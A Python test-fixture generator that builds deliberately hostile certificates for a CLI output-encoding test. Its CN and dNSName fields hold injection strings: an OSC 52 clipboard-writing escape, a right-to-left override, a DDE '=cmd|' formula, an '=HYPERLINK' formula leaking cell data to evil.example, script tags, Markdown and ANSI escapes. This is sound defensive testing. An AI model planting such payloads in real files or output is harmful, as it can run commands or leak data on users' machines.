#!/usr/bin/python3
"""Hostile certificates for tests/cli/output_encoding.sh: the strings a
misissued certificate can carry into a CSV cell, a Markdown draft or a
terminal.

    output_encoding_gen.py OUTDIR

Written to OUTDIR:
  ca.pem     a CA whose CN holds U+202E (RIGHT-TO-LEFT OVERRIDE)
  leaf.pem   its certificate 0x1001: CN with OSC 52 (writes the clipboard)
             and U+202E; dNSNames that are spreadsheet formulas (=HYPERLINK,
             DDE =cmd|, + - @), HTML (<script>), a Markdown link, backticks,
             a heading, a quote, a list item, a pipe and an ESC sequence
  plain.pem  its certificate 0x1002 for plain.example.test (the benign twin)
  big.pem    a self-signed certificate whose Name is a 100,000-byte CN
leaf.pem and big.pem carry the OCSP SCT extension, so `caguard check` has a
finding (ct.cert.ocsp_sct_ext_present) to print about each."""
import datetime
import os
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID, ObjectIdentifier

ESC, BEL, RLO = "\x1b", "\x07", "\u202e"
OSC52 = ESC + "]52;c;ZWNobyBwd25lZA==" + BEL
DNS = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "=cmd|' /C calc'!A0", "+1+cmd",
       "-2+3", "@SUM(1+1)", "<script>alert(1)</script>", "[link](http://evil.example/)",
       "a`b``c", "#heading", ">quote", "-item", "a|b", "x" + ESC + "[31my"]
OCSP_SCT = x509.UnrecognizedExtension(ObjectIdentifier("1.3.6.1.4.1.11129.2.4.5"), b"\x04\x00")
NB, NA = datetime.datetime(2025, 1, 1), datetime.datetime(2025, 3, 1)


def cn(value):
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, value, _validate=False)])


def write(out, path, cert):
    with open(os.path.join(out, path), "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))


def leaf(ca_name, ca_key, subject, serial, names, extra=()):
    k = ec.generate_private_key(ec.SECP256R1())
    b = (x509.CertificateBuilder().subject_name(subject).issuer_name(ca_name)
         .public_key(k.public_key()).serial_number(serial).not_valid_before(NB)
         .not_valid_after(NA)
         .add_extension(x509.SubjectAlternativeName([x509.DNSName(d) for d in names]), False)
         .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()),
                        False))
    for e in extra:
        b = b.add_extension(e, False)
    return b.sign(ca_key, hashes.SHA256())


def main():
    out = sys.argv[1]
    cak = ec.generate_private_key(ec.SECP256R1())
    can = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Hostile Test CA"),
                     x509.NameAttribute(NameOID.COMMON_NAME, "Hostile Test CA " + RLO + "1")])
    ca = (x509.CertificateBuilder().subject_name(can).issuer_name(can)
          .public_key(cak.public_key()).serial_number(x509.random_serial_number())
          .not_valid_before(NB).not_valid_after(datetime.datetime(2030, 1, 1))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), True)
          .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False,
                                       False), True)
          .add_extension(x509.SubjectKeyIdentifier.from_public_key(cak.public_key()), False)
          .sign(cak, hashes.SHA256()))
    write(out, "ca.pem", ca)
    write(out, "leaf.pem", leaf(can, cak, cn("evil" + OSC52 + RLO + "moc.example"), 0x1001,
                                DNS, [OCSP_SCT]))
    write(out, "plain.pem", leaf(can, cak, cn("plain.example.test"), 0x1002,
                                 ["plain.example.test"]))
    bk = ec.generate_private_key(ec.SECP256R1())
    big = cn("B" * 100000)
    write(out, "big.pem", x509.CertificateBuilder().subject_name(big).issuer_name(big)
          .public_key(bk.public_key()).serial_number(7).not_valid_before(NB)
          .not_valid_after(NA).add_extension(OCSP_SCT, False).sign(bk, hashes.SHA256()))


if __name__ == "__main__":
    main()
